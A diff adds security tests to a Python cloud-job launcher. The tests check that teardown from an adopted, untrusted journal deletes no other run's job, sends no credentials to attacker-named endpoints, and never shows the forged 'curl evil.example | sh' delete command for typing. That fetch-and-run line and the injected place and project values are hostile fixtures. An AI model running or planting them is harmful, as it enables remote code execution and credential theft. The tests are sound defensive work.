@@ -15,8 +15,16 @@ import pytest
 from launcher import api, console, engine, home, start, sweeping, view
 from launcher.adopt import adopt
 from launcher.artifacts import open_artifacts
-from launcher.backends.base import Env, Intent, Offer, Phase
-from launcher.errors import Exit, HeldElsewhere, JournalDamaged, LaunchError, UsageError
+from launcher.backends.base import Env, Held, Intent, Offer, Phase
+from launcher.backends.vertex import jobs
+from launcher.errors import (
+    Exit,
+    HeldElsewhere,
+    JournalDamaged,
+    LaunchError,
+    Leaked,
+    UsageError,
+)
 from launcher.fold import Fold
 from launcher.journal import Journal
 from launcher.run import Run
@@ -27,6 +35,7 @@ from tests.launcher.test_adopt import driven_for_a_while, root
 from tests.launcher.test_faults import Turning
 from trainer.store import open_store
 
+from launcher.rehearsal.faults import Fault, Script  # isort: skip
 from launcher.rehearsal.vertex import PREEMPTED, Stub, exited  # isort: skip
 
 
@@ -381,3 +390,82 @@ def test_the_step_that_the_trainer_went_on_from_is_shown(it: Scene) -> None:
     open_artifacts(run.root, home.folder(it.home, run_id), {}, it.clock).refresh(anew=True)
     shown = "\n".join(console.run_lines(run, run.created))
     assert "step 40 (newest: 120)" in shown
+
+
+def forge_job(where: str, run_id: str, **facts: Any) -> None:
+    """The records of an attempt whose job is this one."""
+    name = f"thing-{run_id[-6:]}-j0-a1"
+    data = {"resource": "projects/proj/locations/us-central1/customJobs/1", "project": "proj"}
+    ref = {"backend": "vertex", "kind": "custom_job", "place": "us-central1", "run": run_id,
+           "billable": True, "data": data, **facts, "name": name}  # fmt: skip
+    intent = {key: ref[key] for key in ("kind", "name", "place", "billable")}
+    offer = {"backend": "vertex", "place": ref["place"], "accelerator": "L4:1",
+             "capacity": "spot", "usd_per_hour": 1.0}  # fmt: skip
+    at = {"job": 0, "attempt": 1}
+    forge(where, 2, "driver")
+    forge(where, 3, "intent", **at, intent={**intent, "request": {}}, offer=offer)
+    forge(where, 4, "ref", **at, ref=ref)
+
+
+@pytest.mark.parametrize("known", [True, False])
+def test_a_strangers_journal_deletes_no_job_of_another_run(
+    it: Scene, tmp_path: Path, known: bool
+) -> None:
+    """It names one by its number, as its own or (`known`) as the other run's."""
+    it.home.mkdir(parents=True)
+    it.server.vertex.fates.append(Stub(1, 1, None))
+    (ours,) = [ref for ref in it.attempt().refs if ref.billable]
+    run_id = begin(it)
+    forge_job(root(run_id), run_id, data=ours.data, run=ours.run if known else run_id)
+    other = laptop(it, tmp_path / "other", "bob")
+    adopt(root(run_id), other)
+    assert engine.teardown(run_id, other, load).held is Held.GONE
+    assert list(it.server.vertex.states().values()) == ["RUNNING"]
+
+
+@pytest.mark.parametrize(
+    "facts",
+    [
+        {"place": "evil.example?"},
+        {
+            "data": {
+                "resource": "projects/proj/locations/us-central1/customJobs/1",
+                "project": "x?y",
+            }
+        },
+    ],
+)
+def test_credentials_go_to_no_address_that_a_stranger_names(
+    it: Scene, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, facts: dict[str, Any]
+) -> None:
+    run_id = begin(it)
+    forge_job(root(run_id), run_id, **facts)
+    other = laptop(it, tmp_path / "other", "bob")
+    direct = {k: v for k, v in other.environ.items() if "AIPLATFORM" not in k}
+    other = replace(other, environ=direct)
+    adopt(root(run_id), other)
+    asked: list[str] = []
+    monkeypatch.setattr(jobs, "_job_service", lambda endpoint, credentials: asked.append(endpoint))
+    with pytest.raises(Leaked):
+        engine.teardown(run_id, other, load)
+    assert asked == [] and not list(other.home.glob("google/vertex-places/*"))
+
+
+def test_a_command_from_a_strangers_journal_is_not_shown_to_be_typed(
+    it: Scene, tmp_path: Path
+) -> None:
+    run_id = begin(it)
+    resource = "projects/proj/locations/us-central1/customJobs/1"
+    evil = {"resource": resource, "project": "proj", "delete_command": "curl evil.example | sh"}
+    forge_job(root(run_id), run_id, data=evil)
+    over = {"phase": "failed", "held": "live", "why": "", "exit_code": 1, "cause": "job"}
+    forge(root(run_id), 5, "phase", job=0, attempt=1, **over)
+    other = laptop(it, tmp_path / "other", "bob")
+    adopt(root(run_id), other)
+    it.server.faults = Script([("customJobs/1", Fault("status", 403))])
+    with pytest.raises(Leaked) as caught:
+        engine.teardown(run_id, other, load)
+    assert caught.value.commands == [
+        "gcloud ai custom-jobs cancel 1 --project=proj --region=us-central1",
+        f"launch teardown thing-{run_id[-6:]}",
+    ]
